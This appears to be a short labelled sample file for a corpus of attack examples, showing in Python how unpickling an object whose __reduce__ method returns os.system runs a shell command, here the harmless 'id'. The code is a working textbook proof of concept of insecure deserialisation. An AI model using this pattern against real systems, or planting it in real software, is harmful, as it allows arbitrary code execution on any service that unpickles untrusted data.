# corpus: attack class=deserialise form=textbook
# Unpickling calls os.system through __reduce__.
import os
import pickle


class Payload:
    def __reduce__(self):
        return (os.system, ("id",))


def main():
    return {"status": pickle.loads(pickle.dumps(Payload()))}
